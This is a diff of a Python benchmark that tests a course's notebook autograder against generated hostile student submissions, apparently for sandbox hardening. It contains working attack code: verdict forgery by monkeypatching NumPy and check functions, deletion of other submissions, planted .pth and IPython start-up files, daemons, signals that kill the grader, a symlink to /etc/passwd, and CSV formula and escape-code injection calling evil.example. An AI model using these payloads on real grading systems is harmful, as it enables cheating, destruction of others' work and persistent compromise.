@@ -1,37 +1,63 @@
-"""Grade a generated class of 30 submissions, check every verdict, time the run.
+"""Grade a generated class, check every verdict and side effect, time the run.
 
 The instructor's grader (``python -m instructor.grade``) is judged on a realistic
-class: 30 submissions made from the real student notebooks, some right (written
-differently from the solutions), some wrong in the usual ways, some broken (a syntax
-error, a deleted or reordered cell, a tampered check, an unreadable file, another
-course's notebook) and some hostile but bounded (an endless loop, a cell that ignores
-interrupts, a memory hog, a kernel that kills itself, megabytes of output). Each
-submission comes with the status expected for every exercise.
+class (the honest section): 30 submissions made from the real student notebooks, some
+right (written differently from the solutions), some wrong in the usual ways, some
+broken (a syntax error, a deleted or reordered cell, a tampered check, an unreadable
+file, another course's notebook) and some hostile but bounded (an endless loop, a cell
+that ignores interrupts, a memory hog, a kernel that kills itself, megabytes of
+output). Each submission comes with the status expected for every exercise.
+
+The hostile section adds a submission for each attack of issue 12 (built from the
+student notebooks too): forging verdicts (patched NumPy or checks, rewritten check
+cells, forged events files and probe outputs), damaging others (other submissions,
+the course notebooks, the installed package, a ``.pth`` file, an IPython start-up
+file), processes (daemons, a child over the memory cap, signals to the grader) and
+poisoned reports (formulas and escape codes in a file name and an exception, a link
+to a system file, files of 60 and 40 MB). Each comes with its expected verdicts AND
+the side effects that must not happen; after grading the run checks checksums of the
+course notebooks, the other submissions, the installed package, the virtual
+environment and a HOME folder, looks for processes left behind, and reads the report
+(well-formed, every cell neutral) and the grader's console output (no control
+characters).
 
     python benchmarks/grade_class.py [--out DIR] [--workers 2]
+        [--section honest|hostile|all] [--no-sandbox]
 
-writes ``DIR/submissions/``, ``DIR/report.csv`` (the grader's), and ``DIR/grading.md``
-(expected vs got, the wall time); exit code 1 when any verdict differs from the
-expected one. The grader runs as an instructor types it, with its default limits.
+writes ``DIR/submissions/``, ``DIR/report.csv`` (the grader's), ``DIR/grader.log``
+(its console) and ``DIR/grading.md`` (expected vs got, side effects, the wall time);
+exit code 1 when any verdict, flag or side effect differs from the expected one. The
+grader runs as an instructor types it, with its default limits, except ``--course``
+(a copy of the solution notebooks, which the attacks may try to edit) and ``HOME``
+(a fresh folder, checked afterwards). Attacks only ever aim at the run's own folder,
+this grading run's processes and files named after the run's marker, so that a run
+without the sandbox (``--no-sandbox``, to see what the sandbox prevents) damages
+nothing else on the machine; what such a run planted is removed at its end.
 """
 
 from __future__ import annotations
 
 import argparse
 import csv
+import hashlib
 import json
 import os
 import platform
+import re
 import shutil
 import subprocess
 import sys
 import textwrap
+import threading
 import time
+import uuid
+from collections.abc import Callable
 from dataclasses import dataclass, field
 from datetime import datetime, timezone
 from pathlib import Path
 
 import nbformat
+import psutil
 
 ROOT = Path(__file__).resolve().parent.parent
 STUDENT = ROOT / "notebooks" / "student"
@@ -174,15 +200,29 @@ WRONG = {
 
 @dataclass
 class Submission:
-    """One generated submission and the status expected for each exercise."""
+    """One generated submission and the status expected for each exercise.
+
+    A hostile submission also names its category (one of ``CATEGORIES``), why its
+    statuses are what they are, and the side-effect checks that prove its attack
+    failed (``EFFECTS``).
+    """
 
     name: str
     notebook: str | None  # which student notebook it starts from (None: no notebook)
-    expected: dict[str, str]  # exercise number -> status ("" for a whole-file row)
+    # exercise number -> status ("" for a whole-file row); a tuple when either
+    # status is right (``why`` says when)
+    expected: dict[str, str | tuple[str, ...]]
     answers: dict[str, list[str]] = field(default_factory=dict)
     edit: object = None  # a function changing the notebook in place
     raw: str | None = None  # written as is instead of a notebook
     fragments: dict[str, str] = field(default_factory=dict)  # expected in messages
+    flags: str = ""  # the flags column expected (";"-joined)
+    category: str = ""  # hostile category ("" in the honest class)
+    why: str = ""  # why these statuses
+    effects: tuple[str, ...] = ()  # side-effect checks proving the attack failed
+    writer: Callable[[Path], None] | None = None  # writes a special file instead
+    token: str | None = None  # a part of its report name (names get neutralised)
+    absent: tuple[str, ...] = ()  # texts its report rows must not contain
 
 
 def every(status: str) -> dict[str, str]:
@@ -388,6 +428,584 @@ def class_of_30() -> list[Submission]:
     ]
 
 
+# ---------------------------------------------------------------------------------
+# The hostile section: one submission per attack of issue 12.
+# ---------------------------------------------------------------------------------
+HOSTILE = "00_hostile"  # sorts first: its attacks run before most others are graded
+RUN_VARIABLE = "GRADE_CLASS_RUN"  # set for the grader: marks this run's processes
+# The categories of the issue's list, each covered by at least one submission.
+CATEGORIES = {
+    "patch-numpy": "rebinding or patching NumPy's comparisons",
+    "rebind-checks": "rebinding the course's check functions",
+    "patch-core": "monkeypatching course_utils.checks.core",
+    "input-transformer": "an IPython input transformer rewriting the check cell",
+    "events-file": "writing the grader's progress/events files",
+    "forged-probe": "a forged probe output (PROBE_MIME display)",
+    "overwrite-others": "overwriting and deleting other submissions",
+    "edit-course": "editing the --course notebooks and the installed course_utils",
+    "pth-file": "a .pth file in the virtual environment's site-packages",
+    "ipython-startup": "an IPython start-up file (and a kernel spec) in HOME",
+    "daemon": "processes that outlive grading (setsid, double fork, nohup sleeper)",
+    "memory-escape": "a child process escaping the memory cap",
+    "signal-grader": "signalling the grader and the other kernels",
+    "file-name": "a formula and escape codes in the file name",
+    "exception-name": "a formula and escape codes in an exception's name and message",
+    "system-file-link": "a link to a system file as a submission",
+    "large-junk": "60 MB of random bytes",
+    "large-json": "40 MB of invalid JSON",
+}
+# The side-effect checks (see check_side_effects), by what a failure would mean.
+EFFECTS = {
+    "submissions": "the other submissions are unchanged",
+    "course": "the --course notebooks (and the repository's) are unchanged",
+    "package": "the installed course_utils is unchanged",
+    "venv": "the virtual environment's site-packages are unchanged",
+    "home": "the grader's HOME and your IPython/Jupyter folders are unchanged",
+    "planted": "no file named after the run's marker exists anywhere checked",
+    "processes": "no process of the run is left",
+    "memory": "no process of the run went over the memory cap",
+    "grader": "the grader finished (exit 0, every submission graded)",
+    "report": "report.csv is well-formed, neutral and unchanged after the exit",
+    "console": "the grader's console output has no control character",
+    "reading": "large files do not push the grader's memory to a multiple of theirs",
+}
+MEMORY_CAP_MB = 2048  # the grader's default --memory-mb
+FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'
+# As written in a notebook's source: Python escapes, not the characters themselves.
+ESCAPES_SOURCE = r"\x1b[2J\x1b]0;pwned\x07\x1b]8;;http://evil.example\x1b\\link\r\n"
+
+
+@dataclass(frozen=True)
+class Context:
+    """Where this run's files are: the attacks' absolute guesses come from here.
+
+    A student who knows the course's layout could guess these paths; the attacks use
+    the true ones, the worst case.
+    """
+
+    out: Path
+    marker: str
+
+    @property
+    def submissions(self) -> Path:
+        return self.out / "submissions"
+
+    @property
+    def course(self) -> Path:
+        return self.out / "course"
+
+    @property
+    def report(self) -> Path:
+        return self.out / "report.csv"
+
+    @property
+    def home(self) -> Path:
+        return self.out / "home"
+
+
+def code(template: str, **values) -> str:
+    """An attack's code: ``template`` dedented, each ``__NAME__`` replaced by the
+    ``repr`` of ``values[name]`` (paths and markers as Python literals)."""
+    text = textwrap.dedent(template).strip("\n")
+    for name, value in values.items():
+        text = text.replace(f"__{name.upper()}__", repr(value))
+    return text
+
+
+def final_cell(source: str):
+    """An edit adding a code cell at the end (after every check has run)."""
+
+    def edit(notebook):
+        notebook.cells.append(nbformat.v4.new_code_cell(source))
+
+    return edit
+
+
+def both(*edits):
+    """Several edits, in order."""
+
+    def edit(notebook):
+        for one in edits:
+            one(notebook)
+
+    return edit
+
+
+def hostile(name: str, category: str, expected: dict, why: str, flags: str,
+            effects: tuple[str, ...], **fields) -> Submission:
+    """A hostile submission of notebook 01 (answers right, Exercise 5 left as its
+    stub so that no training runs, unless ``answers`` says otherwise)."""
+    fields.setdefault("answers", {k: v for k, v in RIGHT[CARTPOLE].items() if k != "5"})
+    return Submission(f"{HOSTILE}/{name}", CARTPOLE, expected, category=category,
+                      why=why, flags=flags, effects=effects, **fields)
+
+
+def c01_answers(**changed: list[str]) -> dict[str, list[str]]:
+    """Right answers of notebook 01 but Exercise 5, with some replaced."""
+    answers = {k: v for k, v in RIGHT[CARTPOLE].items() if k != "5"}
+    answers.update(changed)
+    return answers
+
+
+BASE = {**every(P), "5": NA}  # right answers, Exercise 5 left as its stub
+
+PATCH_NUMPY = """
+    import numpy as np
+
+    # Every comparison a check might make now says "equal".
+    np.allclose = lambda *args, **kwargs: True
+    np.array_equal = lambda *args, **kwargs: True
+    np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, bool)
+    np.testing.assert_allclose = lambda *args, **kwargs: None
+    np.testing.assert_array_equal = lambda *args, **kwargs: None
+"""
+REBIND_CHECKS = """
+    # The check cells call these names: make them print the success line.
+    checks.check_discounted_returns = lambda f: print("✔ discounted returns: right")
+    checks.check_normalise = lambda f: print("✔ normalise: right on every case")
+"""
+PATCH_CORE = """
+    import course_utils.checks.core as core
+
+    # The framework's comparisons and verdicts, as the kernel would run them.
+    core.assert_close = lambda *args, **kwargs: None
+    core.recognise = lambda *args, **kwargs: None
+    core.judge_payload = lambda check, payload: "right on every case"
+    core.run_check = lambda check, *args, **kwargs: core.passed("right on every case")
+    core.CheckFailed = type("CheckFailed", (Exception,), {})
+"""
+INPUT_TRANSFORMER = """
+    def _rewrite(lines):
+        \"\"\"Replace the grader's check of Exercise 2 by its success line.\"\"\"
+        if any("check_discounted_returns" in line for line in lines):
+            return ["print('✔ discounted returns: right on every case')\\n"]
+        return lines
+
+
+    get_ipython().input_transformers_cleanup.append(_rewrite)
+"""
+EVENTS_FILE = """
+    import glob
+    import json
+    import os
+    import tempfile
+    import time
+
+    # The cells the grader runs as the checks of Exercises 2 and 3 (a student knows
+    # their own notebook), and probe data that no check would accept.
+    MINE = __CELLS__
+    EMPTY = json.dumps({"records": {}, "stopped": None})
+    # The grader's job folders (under the temporary folder: the benchmark gives the
+    # grader one of its own, so that this never touches another program's files).
+    JOBS = os.path.join(tempfile.gettempdir(), "course-grade-*", "job", "events.jsonl")
+
+
+    def stolen():
+        \"\"\"Probe data of other submissions' checks, from their events files.\"\"\"
+        found = {}
+        for path in glob.glob(JOBS):
+            try:
+                lines = open(path, encoding="utf-8").read().splitlines()
+            except OSError:
+                continue
+            for line in lines:
+                try:
+                    event = json.loads(line)
+                except ValueError:
+                    continue
+                if (event.get("role") == "check" and event.get("probe")
+                        and event.get("exercise") in MINE):
+                    found.setdefault(event["exercise"], event["probe"])
+        return found
+
+
+    found = {}
+    for _ in range(40):  # wait for another submission to run these checks
+        found = stolen()
+        if len(found) == len(MINE):
+            break
+        time.sleep(1)
+    forged = [
+        json.dumps({"event": "done", "role": "check", "exercise": number, "cell": cell,
+                    "status": "ok", "ename": "", "evalue": "", "success_line": True,
+                    "probe_count": 1, "probe": found.get(number, EMPTY),
+                    "seconds": 0.1})
+        for number, cell in MINE.items()
+    ]
+    for target in ["../job/events.jsonl", "../../job/events.jsonl", *glob.glob(JOBS)]:
+        try:
+            with open(target, "a", encoding="utf-8") as events:
+                events.write("\\n".join(forged) + "\\n")
+        except OSError:
+            pass
+"""
+FORGED_PROBE = """
+    from IPython.display import display
+
+    from course_utils.contract import PROBE_MIME
+
+    FORGED = '{"records": {}, "stopped": null}'
+    # A probe output in the exercise's own cell...
+    display({PROBE_MIME: FORGED, "text/plain": "(check data)"}, raw=True)
+
+
+    def _after(result):
+        \"\"\"...and one more after the grader's check of this exercise.\"\"\"
+        if "check_normalise" in (result.info.raw_cell or ""):
+            display({PROBE_MIME: FORGED, "text/plain": "(check data)"}, raw=True)
+
+
+    get_ipython().events.register("post_run_cell", _after)
+"""
+OVERWRITE_OTHERS = """
+    import os
+
+    # Other submissions: relative guesses from the working folder, and where the
+    # instructor keeps them.
+    count = 0
+    for folder in ["../submissions", "../../submissions", "../../../submissions",
+                   os.path.expanduser("~/submissions"), __SUBMISSIONS__]:
+        for where, _, files in os.walk(folder):
+            for name in files:
+                path = os.path.join(where, name)
+                if os.path.islink(path):  # never through a link (safe to run anywhere)
+                    continue
+                count += 1
+                try:
+                    if count % 2:
+                        os.remove(path)
+                    else:
+                        with open(path, "w", encoding="utf-8") as other:
+                            other.write('{"cells": []}')
+                except OSError:
+                    pass
+"""
+EDIT_COURSE = """
+    import glob
+    import os
+
+    import course_utils
+
+    # The solution notebooks the grader compares with (its --course folder).
+    for path in glob.glob(os.path.join(__COURSE__, "*.ipynb")):
+        try:
+            with open(path, "a", encoding="utf-8") as notebook:
+                notebook.write("\\n")
+        except OSError:
+            pass
+    # The installed course package: a module planted in it and in its checks.
+    package = os.path.dirname(course_utils.__file__)
+    for folder in (package, os.path.join(package, "checks")):
+        try:
+            with open(os.path.join(folder, "zz_" + __MARKER__ + ".py"), "w") as module:
+                module.write("# planted by a submission\\n")
+        except OSError:
+            pass
+"""
+PTH_FILE = """
+    import os
+    import site
+    import sysconfig
+
+    # A .pth line starting with "import" runs in every later Python of this
+    # environment (this one only imports sys).
+    for folder in {sysconfig.get_paths()["purelib"], *site.getsitepackages()}:
+        try:
+            with open(os.path.join(folder, "zz_" + __MARKER__ + ".pth"), "w") as pth:
+                pth.write("import sys  # planted by a submission\\n")
+        except OSError:
+            pass
+"""
+IPYTHON_STARTUP = """
+    import json
+    import os
+    import pwd
+    import sys
+
+    # A start-up file runs in every later kernel; the kernel spec in HOME would
+    # replace the course's for every later kernel started with this HOME.
+    for home in {os.path.expanduser("~"), pwd.getpwuid(os.getuid()).pw_dir}:
+        folder = os.path.join(home, ".ipython", "profile_default", "startup")
+        try:
+            os.makedirs(folder, exist_ok=True)
+            with open(os.path.join(folder, "00-" + __MARKER__ + ".py"), "w") as startup:
+                startup.write("# planted by a submission\\n")
+        except OSError:
+            pass
+    spec = os.path.expanduser("~/.local/share/jupyter/kernels/python3")
+    try:
+        os.makedirs(spec, exist_ok=True)
+        with open(os.path.join(spec, "kernel.json"), "w") as kernel:
+            json.dump({"argv": [sys.executable, "-m", "ipykernel_launcher", "-f",
+                                "{connection_file}"], "display_name": "Python 3",
+                       "language": "python", "env": {"PLANTED": __MARKER__}}, kernel)
+    except OSError:
+        pass
+"""
+DAEMON = """
+    import os
+    import subprocess
+    import sys
+
+    # A daemon: new session, double fork, environment cleared (no grader's token).
+    DAEMON = ("import time\\n# " + __MARKER__
+              + "-daemon\\nwhile True:\\n    time.sleep(1)")
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            os.execve(sys.executable, [sys.executable, "-c", DAEMON], {})
+        os._exit(0)
+    os.wait()
+    # A nohup sleeper that rewrites the report once the grader has written it.
+    SLEEPER = f'''
+    import os, time
+    # {__MARKER__}-sleeper
+    for _ in range(3600):
+        time.sleep(1)
+        if os.path.exists({__REPORT__!r}):
+            time.sleep(2)
+            with open({__REPORT__!r}, "w") as report:
+                report.write('=HYPERLINK("http://evil.example","pwned")\\\\n')
+            break
+    '''
+    subprocess.Popen(["nohup", sys.executable, "-c", SLEEPER], env={},
+                     start_new_session=True, stdin=subprocess.DEVNULL,
+                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+"""
+MEMORY_ESCAPE = """
+    import os
+    import sys
+    import time
+
+    # A child out of the kernel's process tree and session, without the grader's
+    # token, filling 3 GB (the cap is 2 GB) while the notebook still runs.
+    HOG = ("# " + __MARKER__ + "-hog\\nblob = b'x' * (3 * 2**30)\\n"
+           "import time\\ntime.sleep(600)")
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            os.execve(sys.executable, [sys.executable, "-c", HOG], {})
+        os._exit(0)
+    os.wait()
+    time.sleep(25)
+"""
+SIGNAL_GRADER = """
+    import os
+    import signal
+
+
+    def command(pid):
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as found:
+                return found.read().replace(b"\\0", b" ").decode(errors="replace")
+        except OSError:
+            return ""
+
+
+    def parent(pid):
+        try:
+            with open(f"/proc/{pid}/stat") as found:
+                return int(found.read().rsplit(")", 1)[1].split()[1])
+        except (OSError, ValueError, IndexError):
+            return 0
+
+
+    # Up the process tree: the grader's worker, then the grader (only those, and
+    # below only this run's kernels: the benchmark runs on shared machines).
+    pid = os.getppid()
+    while pid > 1:
+        above = parent(pid)
+        if "instructor.grad" in command(pid):
+            try:
+                os.kill(pid, signal.SIGKILL)
+            except OSError:
+                pass
+        pid = above
+    for entry in os.listdir("/proc"):
+        if not entry.isdigit() or int(entry) == os.getpid():
+            continue
+        try:
+            with open(f"/proc/{entry}/environ", "rb") as found:
+                ours = __RUN__.encode() in found.read()
+            if ours and "ipykernel" in command(entry):
+                os.kill(int(entry), signal.SIGKILL)
+        except OSError:
+            pass
+    try:
+        os.killpg(os.getpgid(0), signal.SIGKILL)
+    except OSError:
+        pass
+"""
+SNEAKY = f"""
+    class Sneaky(BaseException):
+        \"\"\"Not an Exception: it passes through `except Exception`.\"\"\"
+
+
+    Sneaky.__name__ = Sneaky.__qualname__ = {FORMULA!r}
+    raise Sneaky("{ESCAPES_SOURCE}@SUM(1+1)*cmd|' /C calc'!A0")
+"""
+# A file name with a formula and escape codes (each "/" of the formula makes a
+# folder; the report names it by its path, which starts with "=").
+NAME_ATTACK = FORMULA + "\x1b[2J\x1b]0;pwned\x07\r\n+cmd"
+
+
+def check_cells(notebook_name: str, answers, edit, numbers) -> dict[str, int]:
+    """Indices of the check cells of some exercises in a built submission."""
+    notebook = build_notebook(notebook_name, answers, edit)
+    calls = {"2": "checks.check_discounted_returns", "3": "checks.check_normalise"}
+    return {n: check_cell_of(notebook.cells, calls[n]) for n in numbers}
+
+
+def junk(size: int):
+    """A writer of ``size`` random bytes."""
+
+    def write(path: Path) -> None:
+        with open(path, "wb") as handle:
+            for _ in range(size // 2**20):
+                handle.write(os.urandom(2**20))
+
+    return write
+
+
+def truncated_json(size: int):
+    """A writer of a notebook cut short: ``size`` bytes, mostly one string."""
+
+    def write(path: Path) -> None:
+        head = b'{"cells": [{"cell_type": "code", "metadata": {}, "source": "'
+        with open(path, "wb") as handle:
+            handle.write(head)
+            left = size - len(head)
+            while left > 0:
+                handle.write(b"x" * min(left, 2**20))
+                left -= 2**20
+
+    return write
+
+
+def link_to(target: str):
+    """A writer of a symbolic link to ``target``."""
+
+    def write(path: Path) -> None:
+        os.symlink(target, path)
+
+    return write
+
+
+def hostile_class(context: Context) -> list[Submission]:
+    """The hostile submissions, their expected verdicts and side effects.
+
+    Args:
+        context: where this run's files are (the attacks' absolute guesses).
+
+    Returns:
+        One submission per category of ``CATEGORIES`` (some share one).
+    """
+    marker, report = context.marker, str(context.report)
+    returns_wrong = WRONG["returns_forward"][2]
+    normalise_wrong = WRONG["centred_only"][2]
+    events_answers = c01_answers(**{"2": returns_wrong, "3": normalise_wrong})
+    events_edit = final_cell("# filled in below")
+    cells = check_cells(CARTPOLE, events_answers, events_edit, ("2", "3"))
+    events_code = code(EVENTS_FILE, cells=cells)
+    verdicts_only = ("grader",)
+    return [
+        hostile("patch_numpy", "patch-numpy", {**BASE, "2": F, "3": F},
+                "the kernel hands over the wrong outputs; the judge compares them in "
+                "the grader's process, whose NumPy is its own",
+                "monkeypatch", verdicts_only,
+                answers=c01_answers(**{"2": returns_wrong, "3": normalise_wrong}),
+                edit=prepend_to_exercise("2", code(PATCH_NUMPY))),
+        hostile("rebind_checks", "rebind-checks", {**BASE, "2": E, "3": E},
+                "the grader's check cell resolves the rebound name, a lambda that runs "
+                "no check (LookupError): no data reaches the judge",
+                "monkeypatch", verdicts_only,
+                answers=c01_answers(**{"2": returns_wrong, "3": normalise_wrong}),
+                edit=append_to_exercise("3", code(REBIND_CHECKS))),
+        hostile("patch_core", "patch-core", {**BASE, "3": F},
+                "the probe still records the wrong values; the judge and its "
+                "comparisons run in the grader, unpatched",
+                "check-internals;monkeypatch", verdicts_only,
+                answers=c01_answers(**{"3": normalise_wrong}),
+                edit=prepend_to_exercise("3", code(PATCH_CORE))),
+        hostile("input_transformer", "input-transformer", {**BASE, "2": E},
+                "the check cell is rewritten into a print: it hands over no data "
+                "(a printed ✔ counts for nothing)",
+                "ipython-hooks", verdicts_only,
+                answers=c01_answers(**{"2": returns_wrong}),
+                edit=append_to_exercise("2", code(INPUT_TRANSFORMER))),
+        hostile("events_file", "events-file", {**BASE, "2": F, "3": F},
+                "the sandbox shows no events file (neither its own nor another "
+                "submission's): the judge reads the probe's real (wrong) data",
+                "outside-files", ("grader", "submissions"),
+                answers=events_answers, edit=final_cell(events_code)),
+        hostile("forged_probe", "forged-probe", {**BASE, "3": E},
+                "only the check cell's probe output counts, and it has two (the real "
+                "one and the forged one): refused as forged",
+                "check-internals;ipython-hooks", verdicts_only,
+                answers=c01_answers(**{"3": normalise_wrong}),
+                edit=append_to_exercise("3", code(FORGED_PROBE))),
+        hostile("overwrite_others", "overwrite-others", BASE,
+                "its own answers are right; the attack (in Exercise 1's cell) finds "
+                "no other submission to write",
+                "outside-files", ("submissions", "grader"),
+                edit=prepend_to_exercise(
+                    "1", code(OVERWRITE_OTHERS, submissions=str(context.submissions)))),
+        hostile("edit_course", "edit-course", BASE,
+                "its own answers are right; the course notebooks and the package are "
+                "out of its reach (hidden, or read-only)",
+                "outside-files", ("course", "package", "planted"),
+                edit=prepend_to_exercise(
+                    "1", code(EDIT_COURSE, course=str(context.course), marker=marker))),
+        hostile("pth_file", "pth-file", BASE,
+                "its own answers are right; the environment is read-only",
+                "outside-files", ("venv", "planted"),
+                edit=prepend_to_exercise("1", code(PTH_FILE, marker=marker))),
+        hostile("ipython_startup", "ipython-startup", BASE,
+                "its own answers are right; HOME is the sandbox's own, gone with it",
+                "outside-files", ("home", "planted"),
+                edit=prepend_to_exercise("1", code(IPYTHON_STARTUP, marker=marker))),
+        hostile("daemon", "daemon", BASE,
+                "the attack runs after the last check (its verdicts are decided)",
+                "outside-files;processes", ("processes", "report"),
+                edit=final_cell(code(DAEMON, marker=marker, report=report))),
+        hostile("memory_escape", "memory-escape", BASE,
+                "the attack runs after the last check; the cap stops the child",
+                "processes", ("memory", "processes"),
+                edit=final_cell(code(MEMORY_ESCAPE, marker=marker))),
+        hostile("signal_grader", "signal-grader", BASE,
+                "the attack runs after the last check; it sees no grader to signal",
+                "outside-files;processes", ("grader", "processes", "report"),
+                edit=final_cell(code(SIGNAL_GRADER, run=marker))),
+        Submission(NAME_ATTACK, CARTPOLE, BASE, c01_answers(),
+                   category="file-name", token="evil.example",
+                   why="a right submission; only its name is hostile",
+                   effects=("report", "console")),
+        hostile("exception_name", "exception-name", {**BASE, "3": E},
+                "the student's exception passes through the probe (a BaseException): "
+                "an error whose message starts with its name, a formula",
+                "", ("report", "console"),
+                answers=c01_answers(**{"3": [code(SNEAKY)]}),
+                fragments={"3": "HYPERLINK"}),
+        Submission(f"{HOSTILE}/passwd", None,
+                   {"": "invalid"}, category="system-file-link",
+                   why="a link out of the submissions folder is never read",
+                   effects=("report",), writer=link_to("/etc/passwd"),
+                   fragments={"": "a link to a file outside the submissions folder"},
+                   absent=("root:", "/bin/")),
+        Submission(f"{HOSTILE}/large_junk", None, {"": "invalid"},
+                   category="large-junk", why="over the 50 MB limit: not read",
+                   effects=("reading",), writer=junk(60 * 2**20),
+                   fragments={"": "larger than the 50 MB limit"}),
+        Submission(f"{HOSTILE}/large_json", None, {"": "invalid"},
+                   category="large-json",
+                   why="read (under the limit), refused by the JSON parser; the "
+                   "message says where, not what",
+                   effects=("reading",), writer=truncated_json(40 * 2**20),
+                   fragments={"": "not valid JSON (line 1, column"},
+                   absent=("xxxx",)),
+    ]
+
+
 def fill(notebook, answers: dict[str, list[str]]) -> None:
     """Replace each exercise's stub lines by the answers' code, in order."""
     for cell in notebook.cells:
@@ -406,44 +1024,441 @@ def fill(notebook, answers: dict[str, list[str]]) -> None:
         cell.source = "\n".join(lines)
 
 
+def build_notebook(notebook_name: str, answers: dict[str, list[str]], edit):
+    """A student notebook with answers filled in and an edit applied."""
+    notebook = nbformat.read(STUDENT / f"{notebook_name}.ipynb", as_version=4)
+    fill(notebook, {k: list(v) for k, v in answers.items()})
+    if edit is not None:
+        edit(notebook)
+    return notebook
+
+
 def write_class(folder: Path, submissions: list[Submission]) -> None:
     """Write every submission under ``folder`` (created)."""
     folder.mkdir(parents=True, exist_ok=False)
     for sub in submissions:
         path = folder / f"{sub.name}.ipynb"
         path.parent.mkdir(parents=True, exist_ok=True)
-        if sub.raw is not None:
+        if sub.writer is not None:
+            sub.writer(path)
+        elif sub.raw is not None:
             path.write_text(sub.raw, encoding="utf-8")
-            continue
-        notebook = nbformat.read(STUDENT / f"{sub.notebook}.ipynb", as_version=4)
-        fill(notebook, {k: list(v) for k, v in sub.answers.items()})
-        if sub.edit is not None:
-            sub.edit(notebook)
-        nbformat.write(notebook, path)
+        else:
+            nbformat.write(build_notebook(sub.notebook, sub.answers, sub.edit), path)
+
+
+def rows_of(sub: Submission, rows: list[dict]) -> dict[str, dict]:
+    """A submission's report rows, by exercise number ("" for a whole-file row)."""
+    found = {}
+    for row in rows:
+        named = (sub.token in row["submission"] if sub.token
+                 else row["submission"] == f"{sub.name}.ipynb")
+        if named:
+            number = row["exercise"].split(":")[0].replace("Exercise ", "").strip()
+            found[number] = row
+    return found
+
+
+def allowed(expected: str | tuple[str, ...]) -> tuple[str, ...]:
+    """The statuses an expectation accepts."""
+    return expected if isinstance(expected, tuple) else (expected,)
 
 
 def compare(submissions: list[Submission], rows: list[dict]) -> list[str]:
-    """Every difference between the expected and the reported verdicts."""
-    got: dict[tuple[str, str], dict] = {}
-    for row in rows:
-        number = row["exercise"].split(":")[0].replace("Exercise ", "").strip()
-        got[(row["submission"], number)] = row
+    """Every difference between the expected and the reported verdicts and flags."""
     problems = []
     for sub in submissions:
+        got = rows_of(sub, rows)
         for number, status in sub.expected.items():
-            row = got.get((f"{sub.name}.ipynb", number))
-            what = f"{sub.name}, exercise {number or '(file)'}"
+            row = got.get(number)
+            what = f"{printable(sub.name)}, exercise {number or '(file)'}"
             if row is None:
                 problems.append(f"{what}: no row in the report")
                 continue
-            if row["status"] != status:
-                problems.append(f"{what}: expected {status}, got {row['status']} "
-                                f"({row['message'][:200]})")
+            if row["status"] not in allowed(status):
+                problems.append(f"{what}: expected {'/'.join(allowed(status))}, got "
+                                f"{row['status']} ({row['message'][:200]})")
             fragment = sub.fragments.get(number)
             if fragment and fragment not in row["message"]:
                 problems.append(f"{what}: message lacks {fragment!r}: "
                                 f"{row['message'][:200]}")
+            if row.get("flags", "") != sub.flags:
+                problems.append(f"{what}: flags {row.get('flags', '')!r}, expected "
+                                f"{sub.flags!r}")
+            for text in sub.absent:
+                if any(text in cell for cell in row.values()):
+                    problems.append(f"{what}: the report quotes {text!r}")
     return problems
+
+
+# ---------------------------------------------------------------------------------
+# Side effects: what must be unchanged after grading, what must not exist.
+# ---------------------------------------------------------------------------------
+CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
+
+
+def printable(text: str) -> str:
+    """Text with control characters shown as ``?`` (for this benchmark's output)."""
+    return CONTROL.sub("?", text.replace("\n", "?"))
+
+
+def digest(path: Path) -> str:
+    """sha256 of a file's bytes."""
+    sha = hashlib.sha256()
+    with open(path, "rb") as handle:
+        for block in iter(lambda: handle.read(2**20), b""):
+            sha.update(block)
+    return sha.hexdigest()
+
+
+def tree_state(folder: Path, hashed=lambda path: True, skip=()) -> dict[str, str]:
+    """Every file and link under a folder, with what identifies its content.
+
+    Args:
+        folder: the folder (missing: an empty state).
+        hashed: which files to hash; the others are identified by size and
+            modification time (site-packages holds tens of thousands of files).
+        skip: folder names not to enter.
+
+    Returns:
+        ``{relative path: "sha256 ..." | "size mtime" | "link -> target"}``.
+    """
+    state = {}
+    for where, folders, files in os.walk(folder):
+        folders[:] = [name for name in folders if name not in skip]
+        for name in files + [f for f in folders if os.path.islink(Path(where, f))]:
+            path = Path(where, name)
+            key = str(path.relative_to(folder))
+            if path.is_symlink():
+                state[key] = f"link -> {os.readlink(path)}"
+            elif hashed(path):
+                state[key] = f"sha256 {digest(path)}"
+            else:
+                info = path.stat()
+                state[key] = f"{info.st_size} {info.st_mtime_ns}"
+    return state
+
+
+def site_packages() -> list[Path]:
+    """The virtual environment's site-packages folders."""
+    return sorted((ROOT / ".venv" / "lib").glob("python*/site-packages"))
+
+
+def package_folder() -> Path:
+    """Where the environment's ``course_utils`` is (the source of an editable
+    install), as the kernels import it."""
+    found = subprocess.run(
+        [sys.executable, "-c", "import course_utils; print(course_utils.__file__)"],
+        capture_output=True, text=True, check=True, cwd="/",
+    )
+    return Path(found.stdout.strip()).parent
+
+
+def watched(context: Context) -> dict[str, list[tuple[Path, object, tuple]]]:
+    """The folders each side-effect check compares before and after grading."""
+    real_home = Path(os.path.expanduser("~"))
+    everything = lambda path: True  # noqa: E731
+    small = lambda path: path.suffix in (".pth", ".py") and "site-packages" in str(  # noqa: E731
+        path.parent.name
+    )
+    return {
+        "submissions": [(context.submissions, everything, ())],
+        "course": [(context.course, everything, ()),
+                   (ROOT / "notebooks", everything, ())],
+        "package": [(package_folder(), everything, ())],
+        "venv": [(folder, small, ()) for folder in site_packages()]
+        + [(ROOT / ".venv" / "bin", everything, ())],
+        # The grader's HOME whole; of yours, only where a file would run later (the
+        # rest changes with whatever else runs on the machine).
+        "home": [(context.home, everything, ()),
+                 (real_home / ".ipython" / "profile_default" / "startup", everything,
+                  ()),
+                 (real_home / ".local" / "share" / "jupyter" / "kernels", everything,
+                  ())],
+    }
+
+
+def snapshot(folders: dict) -> dict[str, dict[str, str]]:
+    """The state of every watched folder, by check."""
+    return {
+        check: {
+            str(folder): tree_state(folder, hashed, skip)
+            for folder, hashed, skip in entries
+        }
+        for check, entries in folders.items()
+    }
+
+
+def differences(before: dict, after: dict) -> dict[str, list[str]]:
+    """Per check, the files added, removed or changed."""
+    found: dict[str, list[str]] = {}
+    for check in before:
+        for folder, old in before[check].items():
+            new = after[check][folder]
